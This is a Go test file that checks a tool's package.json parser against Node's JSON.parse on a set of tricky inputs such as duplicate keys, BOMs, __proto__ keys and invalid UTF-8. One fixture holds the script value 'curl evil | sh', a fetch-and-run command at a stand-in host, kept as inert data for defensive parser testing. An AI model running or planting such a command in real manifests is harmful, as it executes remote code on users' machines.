package validation

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/gilf-review/gilf/internal/shared"
)

// nodeReadManifest mirrors how npm reads package.json (json-parse-even-
// better-errors: strip one BOM, then JSON.parse) and reports what the plan
// depends on, one JSON line per file.
const nodeReadManifest = `
const fs = require('fs');
const kind = v => v === null ? 'null' : Array.isArray(v) ? 'array' : typeof v;
for (const f of process.argv.slice(2)) {
  const out = { file: f, ok: false, scriptsKind: '', scripts: {}, packageManager: null };
  try {
    const v = JSON.parse(fs.readFileSync(f, 'utf8').replace(/^\uFEFF/, ''));
    if (kind(v) === 'object') {
      out.ok = true;
      if ('scripts' in v) out.scriptsKind = kind(v.scripts);
      if (out.scriptsKind === 'object') {
        // fromEntries defines own properties, so "__proto__" stays a key.
        out.scripts = Object.fromEntries(Object.entries(v.scripts).filter(([, s]) => typeof s === 'string'));
      }
      if (typeof v.packageManager === 'string') out.packageManager = v.packageManager;
    }
  } catch (e) {}
  console.log(JSON.stringify(out));
}
`

type nodeManifest struct {
	File           string            `json:"file"`
	OK             bool              `json:"ok"`
	ScriptsKind    string            `json:"scriptsKind"`
	Scripts        map[string]string `json:"scripts"`
	PackageManager *string           `json:"packageManager"`
}

// TestParseManifestMatchesNode is a differential test against the real
// JSON.parse: for every corpus and edge file, and every hostile input of
// TestPlanFromManifestBadInput-style, gilf's reading of package.json must
// equal node's: accepted or not, the kind of "scripts", every string
// script (exact-case keys, last duplicate wins) and packageManager.
// CI installs node 20 (see the report); a missing node fails the test.
func TestParseManifestMatchesNode(t *testing.T) {
	node, err := exec.LookPath("node")
	if err != nil {
		t.Fatalf("node is required for this differential test: %v", err)
	}
	dir := t.TempDir()
	var files []string
	add := func(name string, data []byte) {
		p := filepath.Join(dir, fmt.Sprintf("%03d-%s", len(files), name))
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
		files = append(files, p)
	}
	for _, sub := range []string{"", "edge"} {
		entries, err := os.ReadDir(shared.Data(t, "package-json", sub))
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range entries {
			if e.IsDir() || strings.HasSuffix(e.Name(), ".tsv") {
				continue
			}
			data, err := os.ReadFile(shared.Data(t, "package-json", sub, e.Name()))
			if err != nil {
				t.Fatal(err)
			}
			add(e.Name(), data)
		}
	}
	hostile := map[string]string{
		"case":                       `{"scripts":{"test":"true"},"Scripts":{"test":"curl evil | sh"}}`,
		"dup-scripts":                `{"scripts":{"test":"a"},"scripts":{"lint":"b"}}`,
		"dup-script":                 `{"scripts":{"test":"a","test":"b"}}`,
		"dup-to-number":              `{"scripts":{"test":"a","test":1}}`,
		"dup-from-number":            `{"scripts":{"test":1,"test":"a"}}`,
		"escaped-key":                `{"scripts":{"te\u0073t":"a"}}`,
		"bom":                        "\xEF\xBB\xBF{\"scripts\":{\"test\":\"a\"}}",
		"two-boms":                   "\xEF\xBB\xBF\xEF\xBB\xBF{\"scripts\":{\"test\":\"a\"}}",
		"trailing":                   `{"scripts":{"test":"a"}} {}`,
		"top-array":                  `[]`,
		"top-null":                   `null`,
		"scripts-null":               `{"scripts":null}`,
		"scripts-array":              `{"scripts":["a"]}`,
		"scripts-invalid-then-valid": `{"scripts":1,"scripts":{"build":"tsc"}}`,
		"huge-number":                `{"n":1e400,"scripts":{"test":"a"}}`,
		"invalid-utf8":               "{\"scripts\":{\"test\":\"a \xff b\"}}",
		"pm-number":                  `{"packageManager":8,"scripts":{"test":"a"}}`,
		"pm-dup":                     `{"packageManager":"npm@1","packageManager":"pnpm@9"}`,
		"empty":                      ``,
		"ws":                         " \n",
		"nested-dup":                 `{"a":{"b":1,"b":2},"scripts":{"lint":"x"}}`,
		"control-in-string":          "{\"scripts\":{\"test\":\"a\tb\"}}",
		"escapes":                    `{"scripts":{"test":"a\"b\\c\/d\n\u00e9"}}`,
		"proto":                      `{"__proto__":{"x":1},"scripts":{"__proto__":"p","test":"a"}}`,
	}
	for name, data := range hostile {
		add(name, []byte(data))
	}

	script := filepath.Join(dir, "read.js")
	if err := os.WriteFile(script, []byte(nodeReadManifest), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	out, err := exec.CommandContext(ctx, node, append([]string{script}, files...)...).Output()
	if err != nil {
		t.Fatalf("node: %v", err)
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	if len(lines) != len(files) {
		t.Fatalf("node printed %d lines for %d files", len(lines), len(files))
	}
	for _, line := range lines {
		var want nodeManifest
		if err := json.Unmarshal([]byte(line), &want); err != nil {
			t.Fatalf("node line %q: %v", line, err)
		}
		t.Run(filepath.Base(want.File), func(t *testing.T) {
			data, err := os.ReadFile(want.File)
			if err != nil {
				t.Fatal(err)
			}
			m, gap := parseManifest(data, DefaultMaxManifestDepth)
			got := nodeManifest{File: want.File, OK: gap == nil, Scripts: map[string]string{}}
			if gap == nil {
				got.ScriptsKind = m.scriptsKind
				for k, v := range m.scripts {
					got.Scripts[k] = v
				}
				if m.hasPackageManager {
					pm := m.packageManager
					got.PackageManager = &pm
				}
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("gilf and node read this differently (-node +gilf):\n%s", diff)
			}
		})
	}
}
